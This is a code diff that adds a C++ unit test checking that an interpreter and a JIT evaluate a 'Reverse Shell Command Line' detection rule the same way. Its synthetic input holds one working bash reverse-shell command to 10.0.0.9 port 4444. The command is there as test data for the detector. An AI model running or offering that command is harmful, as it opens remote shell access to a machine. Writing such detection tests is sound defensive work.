@@ -183,5 +183,29 @@ TEST(LazyViews, InlineRegexSeesConstantsAndTheRawEvent) {
   }
 }
 
+TEST(LazyViews, EventsARulesEarlyStagesDropAreNotReadInFull) {
+  // Reverse Shell Command Line has no search filter: its first stages
+  // (urldecode(process), two regexes) run on a partial read of the binary and
+  // arguments; only the events they keep are read in full. Line 2 has bad
+  // UTF-8 after those fields: the interpreter reports it, the JIT never
+  // reads that far. Results are the same.
+  const std::string kReverse = kRepo + "/rules/isovalent/cisco_isovalent___reverse_shell_command_line.yml";
+  const auto event = [](const std::string& args, const std::string& node) {
+    return R"({"process_exec":{"process":{"pid":1,"binary":"/bin/bash","arguments":")" + args +
+           R"("},"parent":{"binary":"/usr/sbin/runc"}},"node_name":")" + node +
+           R"(","time":"2025-08-14T20:42:47.459945318Z","cluster_name":"c1"})" + "\n";
+  };
+  const std::string input = event("-c 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1'", "n1") +  // kept
+                            event("-c ls", "n\xff") +                                       // dropped early
+                            event("-c ls", "n1");
+  Outcome interp = run("interp", input, {kReverse});
+  Outcome jit = run("jit", input, {kReverse});
+  ASSERT_EQ(interp.rows.size(), 1u);
+  EXPECT_EQ(jit.rows, interp.rows);
+  ASSERT_EQ(interp.stats.read.problems.size(), 1u);
+  EXPECT_EQ(interp.stats.read.problems[0].line, 2u);
+  EXPECT_TRUE(jit.stats.read.problems.empty());
+}
+
 }  // namespace
 }  // namespace rulejit
